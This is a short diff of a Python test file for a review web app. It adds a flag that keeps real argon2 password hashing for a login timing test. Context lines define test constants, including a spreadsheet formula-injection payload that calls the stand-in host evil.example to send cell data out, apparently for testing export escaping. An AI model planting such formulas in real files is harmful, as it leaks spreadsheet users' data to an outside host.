@@ -18,6 +18,9 @@ from review import create_app
 from tests.review_client import PASSWORD, csrf_of, try_login
 from tests.review_fixtures import add_flagged_run
 
+# The log-in timing test needs argon2 at its real cost (tests/conftest.py lowers it).
+REAL_PASSWORD_HASHING = True
+
 FORMULA_ID = '=HYPERLINK("http://evil.example/?q="&A1,"x")'
 FORMULA_NOTE = "@SUM(1+1)"
 
